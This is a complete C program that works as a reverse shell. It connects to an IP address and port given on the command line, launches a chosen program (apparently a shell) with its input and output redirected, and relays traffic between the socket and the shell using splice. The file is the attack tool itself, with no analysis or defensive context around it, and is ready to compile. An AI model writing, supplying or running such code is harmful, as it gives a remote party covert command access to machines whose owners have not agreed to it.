/* Carries bytes between a connection and a shell's pipes without reading them: splice in both directions. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

/* A blocking splice waits until all it was asked for has come. */
static void carry(int from, int to) {
  struct pollfd wait = {.fd = from, .events = POLLIN};
  while (poll(&wait, 1, -1) > 0 && splice(from, 0, to, 0, 4096, SPLICE_F_NONBLOCK) > 0) {}
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  int in[2], out[2];
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &peer.sin_addr);
  int connection = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(connection, (struct sockaddr *)&peer, sizeof peer) || pipe(in) || pipe(out)) return 3;
  if (fork() == 0) {
    dup2(in[0], 0);
    dup2(out[1], 1);
    dup2(out[1], 2);
    for (int fd = 3; fd < 16; fd++) close(fd);
    execl(argv[3], argv[3], (char *)0);
    _exit(4);
  }
  if (fork() == 0) carry(connection, in[1]);
  else carry(out[0], connection);
  return 0;
}
